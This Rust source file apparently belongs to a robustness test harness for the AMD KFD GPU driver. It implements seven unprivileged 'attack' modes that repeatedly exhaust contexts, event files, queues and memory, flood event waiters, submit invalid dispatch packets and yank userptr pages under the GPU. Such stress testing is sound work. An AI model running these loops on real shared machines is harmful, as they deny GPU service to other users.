// SPDX-License-Identifier: GPL-2.0-only OR MIT

//! What a user without rights can do all the time to a driver that others need.

use super::{acquire, until_told};
use crate::running::say;
use anyhow::{Context, Result};
use clap::ValueEnum;
use kfd::SmiEvents;
use kfd::{topology, Device, Event, EventKind, Events, Kfd, Memory, Queue, QueueKind, QueueMemory};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

#[derive(Clone, Copy, ValueEnum)]
pub enum Attack {
    /// Contexts of CREATE_PROCESS, as many as there are, and again.
    Contexts,
    /// Files of SMI events, as many as there are, and again.
    SmiFiles,
    /// Threads that wait for one event, and one that sets it.
    Waits,
    /// Queues with packets that no GPU takes.
    BadPackets,
    /// Queues, as many as there are, and again.
    Queues,
    /// Memory of the process's own that goes away under the GPU.
    Userptr,
    /// System memory for the GPU, as much as there is, and again.
    Memory,
}

/// Threads that wait at the same time.
const WAITERS: usize = 200;
/// AGENT_DISPATCH, which no GPU takes.
const AGENT_DISPATCH: u32 = 4;

impl Attack {
    /// Goes on until it is told to end, and says how often it did what it does.
    pub fn run(self) -> Result<()> {
        let done = Arc::new(AtomicBool::new(false));
        let count = Arc::new(AtomicU64::new(0));
        let worker = {
            let (done, count) = (done.clone(), count.clone());
            std::thread::spawn(move || self.repeat(&done, &count))
        };
        // What it does has been done once.
        while count.load(Ordering::Relaxed) == 0 && !worker.is_finished() {
            std::thread::sleep(Duration::from_millis(5));
        }
        say("begun")?;
        until_told()?;
        done.store(true, Ordering::Relaxed);
        worker.join().expect("the attack does not panic")?;
        println!("{} times {}", count.load(Ordering::Relaxed), self.unit());
        Ok(())
    }

    fn unit(self) -> &'static str {
        match self {
            Self::Contexts => "a context",
            Self::SmiFiles => "a file of events",
            Self::Waits => "all waiters woken",
            Self::BadPackets => "a queue with a bad packet",
            Self::Queues => "a queue",
            Self::Userptr => "pages that went away",
            Self::Memory => "16 MiB",
        }
    }

    fn repeat(self, done: &AtomicBool, count: &AtomicU64) -> Result<()> {
        let on = || !done.load(Ordering::Relaxed);
        let one_more = || {
            count.fetch_add(1, Ordering::Relaxed);
        };
        match self {
            Self::Contexts => greedy(on, one_more, Kfd::open_secondary),
            Self::SmiFiles => {
                let kfd = Kfd::open()?;
                let nodes = topology::gpus()?;
                let gpu = nodes.first().context("no GPU")?.gpu_id;
                greedy(on, one_more, || SmiEvents::open(&kfd, gpu, &[1]))
            }
            Self::Waits => waits(on, one_more),
            Self::BadPackets => {
                let device = acquire()?;
                while on() {
                    bad_packet(&device)?;
                    one_more();
                }
                Ok(())
            }
            Self::Queues => {
                let device = acquire()?;
                let place = Place::new(&device)?;
                greedy(on, one_more, || place.queue(&device, QueueKind::Aql))
            }
            Self::Userptr => userptr(on, one_more),
            Self::Memory => {
                let device = acquire()?;
                greedy(on, one_more, || Memory::gtt(&device, 16 << 20))
            }
        }
    }
}

/// Takes one thing after the other until it is refused, gives all back, and begins again.
fn greedy<T, E>(
    on: impl Fn() -> bool,
    one_more: impl Fn(),
    take: impl Fn() -> Result<T, E>,
) -> Result<()> {
    while on() {
        let mut taken = Vec::new();
        while let Ok(thing) = take() {
            taken.push(thing);
            one_more();
            if !on() {
                break;
            }
        }
    }
    Ok(())
}

/// Where a queue lies.
struct Place {
    ring: Arc<Memory>,
    indices: Arc<Memory>,
}

impl Place {
    fn new(device: &Arc<Device>) -> Result<Self> {
        Ok(Self {
            ring: Memory::gtt(device, 0x4000)?.into(),
            indices: Memory::gtt(device, 4096)?.into(),
        })
    }

    fn queue(&self, device: &Arc<Device>, kind: QueueKind) -> kfd::Result<Queue> {
        let place = QueueMemory {
            ring: self.ring.clone(),
            ring_size: 0x4000,
            indices: self.indices.clone(),
            write_index: 0,
            read_index: 0x80,
        };
        Queue::create(device, kind, place)
    }
}

fn bad_packet(device: &Arc<Device>) -> Result<()> {
    let place = Place::new(device)?;
    let queue = place.queue(device, QueueKind::Aql)?;
    place.ring.write(0, &[AGENT_DISPATCH]);
    place.indices.write(0, &[1u64]);
    queue.ring_doorbell(0);
    Ok(())
}

/// Wakes all waiters of an event, again and again.
fn waits(on: impl Fn() -> bool, one_more: impl Fn()) -> Result<()> {
    let device = acquire()?;
    let events = Events::new(&device)?;
    let event = Event::new(&events, EventKind::Signal, false)?;
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        for _ in 0..WAITERS {
            scope.spawn(|| {
                while !over.load(Ordering::Relaxed) {
                    // It may have ended meanwhile.
                    let _ = event.wait(Some(Duration::from_millis(500)));
                }
            });
        }
        while on() {
            event.set()?;
            std::thread::yield_now();
            event.reset()?;
            one_more();
        }
        over.store(true, Ordering::Relaxed);
        event.set()
    })?;
    Ok(())
}

/// Takes pages away under the GPU: each time, the driver stops the process's queues for a while.
fn userptr(on: impl Fn() -> bool, one_more: impl Fn()) -> Result<()> {
    let device = acquire()?;
    let memory = Memory::userptr(&device, 16 << 20)?;
    let place = Place::new(&device)?;
    let _queue = place.queue(&device, QueueKind::Aql)?;
    while on() {
        memory.write(0, &[1u64]);
        // SAFETY: the range is the buffer's own; what was in it is lost, and nobody minds.
        unsafe {
            rustix::mm::madvise(
                memory.as_ptr().as_ptr().cast(),
                memory.size(),
                rustix::mm::Advice::LinuxDontNeed,
            )?;
        }
        one_more();
    }
    Ok(())
}
